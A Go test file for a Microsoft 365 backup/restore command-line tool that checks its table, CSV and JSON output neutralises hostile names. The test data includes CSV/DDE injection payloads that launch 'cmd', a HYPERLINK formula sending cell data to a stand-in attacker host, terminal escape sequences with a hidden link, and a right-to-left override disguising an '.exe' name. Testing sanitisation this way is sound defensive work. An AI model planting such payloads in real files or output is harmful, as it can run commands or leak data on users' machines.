package main

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/m365kit/backuprestore/fake"
	"github.com/m365kit/backuprestore/models"
)

// hostileNames are names a tenant's admin or users could give sites and
// people: spreadsheet formulas (OWASP's CSV injection), terminal escape
// sequences (CSI, an OSC 8 hyperlink ended by BEL, the 8-bit CSI), a
// right-to-left override that disguises an extension, a tab and a
// carriage return.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Click me")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\tTabbed",
	"\rReturned",
	"\x1b[2J\x1b[31mred alert\x1b[0m",
	"\x1b]8;;http://evil.example\x07innocent link\x1b]8;;\x07",
	"bell\a\a\a",
	"\u009b31m8-bit CSI",
	"\u202egnp.exe",
	"mixed \u200f\u2067RTL\u2069 marks",
}

// hostileEmulator holds one protected unit per hostile name (sites,
// drives and mailboxes in turn) in a policy whose name is hostile too.
func hostileEmulator(t *testing.T) (*fake.Server, []fake.Unit) {
	t.Helper()
	srv := fake.NewServer(nil)
	policies := map[models.UnitKind]string{}
	for kind, pk := range map[models.UnitKind]models.PolicyKind{
		models.KindSite: models.PolicyKindSharePoint, models.KindDrive: models.PolicyKindOneDrive, models.KindMailbox: models.PolicyKindExchange,
	} {
		p, err := srv.AddPolicy(fake.Policy{Kind: pk, DisplayName: "=1+1 \x1b[5mPolicy\x1b[0m " + pk.String(), IsEnabled: true})
		require.NoError(t, err)
		policies[kind] = p.ID
	}
	var units []fake.Unit
	for i, name := range hostileNames {
		kind := []models.UnitKind{models.KindSite, models.KindDrive, models.KindMailbox}[i%3]
		u := fake.Unit{ID: "hostile-" + string(rune('a'+i)), Kind: kind, Status: models.StatusProtected, PolicyID: policies[kind]}
		switch kind {
		case models.KindSite:
			u.SiteName, u.SiteWebURL = name, "https://contoso.sharepoint.com/sites/hostile"+string(rune('a'+i))
			u.SiteID = "contoso.sharepoint.com,0000000" + string(rune('a'+i)) + ",1"
		default:
			u.DisplayName, u.Email, u.DirectoryObjectID = name, "hostile"+string(rune('a'+i))+"@contoso.com", "dir-"+string(rune('a'+i))
		}
		require.NoError(t, srv.AddUnit(u))
		units = append(units, u)
	}
	return srv, units
}

// requireTerminalSafe fails when text holds a character that could drive
// a terminal (what printable replaces), other than newlines.
func requireTerminalSafe(t *testing.T, what, text string) {
	t.Helper()
	for _, r := range text {
		if r != '\n' && unsafeRune(r) {
			require.Failf(t, "unsafe character on a terminal", "%s holds %U:\n%s", what, r, text)
		}
	}
}

// Hostile names through every output of units list and of an offboard
// dry run: tables (stdout and the plan on stderr) show them with U+FFFD
// for what would drive the terminal, one line per unit; CSV neutralises
// formulas with a leading ' (and, on a terminal, the control characters);
// JSON and JSON Lines keep the exact values, with the unsafe characters
// escaped in the text.
func TestHostileNames(t *testing.T) {
	srv, units := hostileEmulator(t)
	byID := map[string]string{}
	var targets []string
	for i, u := range units {
		byID[u.ID] = hostileNames[i]
		targets = append(targets, u.ID)
	}
	commands := map[string][]string{
		"units list": {"units", "list", "--all"},
		"dry run":    append([]string{"offboard", "--dry-run"}, targets...),
	}
	for name, args := range commands {
		t.Run(name+"/table", func(t *testing.T) {
			// stderr is no terminal: the progress bar's own carriage
			// returns stay out of it; the plan is shown all the same.
			c := cli{srv: srv, env: map[string]string{"NO_COLOR": "1"}, outTTY: true}
			r := c.run(t, append([]string{"--emulator"}, args...)...)
			require.Equal(t, exitOK, r.code, r.stderr)
			requireTerminalSafe(t, "stdout", r.stdout)
			requireTerminalSafe(t, "stderr", r.stderr)
			require.Contains(t, r.stdout, "\uFFFD[2J\uFFFD[31mred alert\uFFFD[0m")
			require.Contains(t, r.stdout, "\uFFFDgnp.exe")
			require.Contains(t, r.stdout, `=HYPERLINK("http://evil.example/?x="&A1,"Click me")`, "a table shows the name as it is")
			for _, u := range units {
				n := 0
				for l := range strings.SplitSeq(r.stdout, "\n") {
					if strings.HasPrefix(l, u.ID+" ") {
						n++
					}
				}
				require.Equal(t, 1, n, "one line for %s", u.ID)
			}
		})
		for _, tty := range []bool{false, true} {
			t.Run(name+"/csv/"+map[bool]string{false: "file", true: "terminal"}[tty], func(t *testing.T) {
				c := cli{srv: srv, outTTY: tty}
				r := c.run(t, append([]string{"--emulator", "-o", "csv"}, args...)...)
				require.Equal(t, exitOK, r.code, r.stderr)
				recs, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
				require.NoError(t, err)
				col := map[string]int{}
				for i, h := range recs[0] {
					col[h] = i
				}
				require.Len(t, recs, len(units)+1)
				for _, rec := range recs[1:] {
					for i, cell := range rec {
						if cell != "" {
							require.NotContains(t, "=+-@\t\r", cell[:1], "column %s starts a formula: %q", recs[0][i], cell)
						}
					}
					want := byID[rec[col["id"]]]
					got := rec[col["name"]]
					switch {
					case tty:
						require.Equal(t, csvCell(printable(want)), got, "on a terminal, printable first")
					case strings.ContainsAny(want[:1], "=+-@\t\r"):
						require.Equal(t, "'"+want, got, "neutralised with a single quote")
					default:
						require.Equal(t, want, got, "a file keeps the value")
					}
					if name == "units list" {
						require.True(t, strings.HasPrefix(rec[col["policyName"]], "'=1+1"), "the policy's name too: %q", rec[col["policyName"]])
					}
				}
				if tty {
					requireTerminalSafe(t, "CSV on a terminal", r.stdout)
				}
			})
		}
		for _, out := range []string{"json", "jsonl"} {
			t.Run(name+"/"+out, func(t *testing.T) {
				c := cli{srv: srv}
				r := c.run(t, append([]string{"--emulator", "-o", out}, args...)...)
				require.Equal(t, exitOK, r.code, r.stderr)
				requireTerminalSafe(t, out, r.stdout)
				var items []map[string]any
				if out == "json" {
					require.NoError(t, json.Unmarshal([]byte(r.stdout), &items))
				} else {
					for l := range strings.SplitSeq(strings.TrimSpace(r.stdout), "\n") {
						var m map[string]any
						require.NoError(t, json.Unmarshal([]byte(l), &m))
						items = append(items, m)
					}
				}
				require.Len(t, items, len(units))
				for _, it := range items {
					require.Equal(t, byID[it["id"].(string)], it["name"], "JSON keeps the exact value")
					require.Contains(t, it["policyName"], "\x1b[5mPolicy")
				}
			})
		}
	}
}

// Errors, notes and the prompt never carry a hostile character to the
// terminal: a service error message with escape sequences, a target
// holding them, and the plan shown before the prompt.
func TestHostileMessages(t *testing.T) {
	srv, units := hostileEmulator(t)
	srv.AddFault(fake.Fault{Route: fake.RouteList, Kind: fake.FaultStatus, Status: 400, Code: "BadRequest",
		Message: "\x1b[2J\x1b]8;;http://evil\x07click\x1b]8;;\x07 \u202eevil", Count: 1})
	c := cli{srv: srv}
	r := c.run(t, "--emulator", "units", "list")
	require.Equal(t, exitFailed, r.code, r.stderr)
	require.Contains(t, r.stderr, "click")
	requireTerminalSafe(t, "a service's error", r.stderr)
	require.Empty(t, r.stdout)

	r = c.run(t, "--emulator", "units", "get", "x\x1b[2J@contoso.com")
	require.Equal(t, exitUsage, r.code, r.stderr)
	requireTerminalSafe(t, "an error naming the target", r.stderr)

	c = cli{srv: srv, inTTY: true, stdin: "n\n"}
	r = c.run(t, "--emulator", "offboard", units[6].ID, units[7].ID, units[10].ID)
	require.Equal(t, exitDeclined, r.code, r.stderr)
	require.Contains(t, r.stderr, "[y/N]")
	requireTerminalSafe(t, "the plan and the prompt", r.stderr)
	require.Contains(t, r.stderr, "=1+1 \uFFFD[5mPolicy", "the plan names the policy, made safe")
}
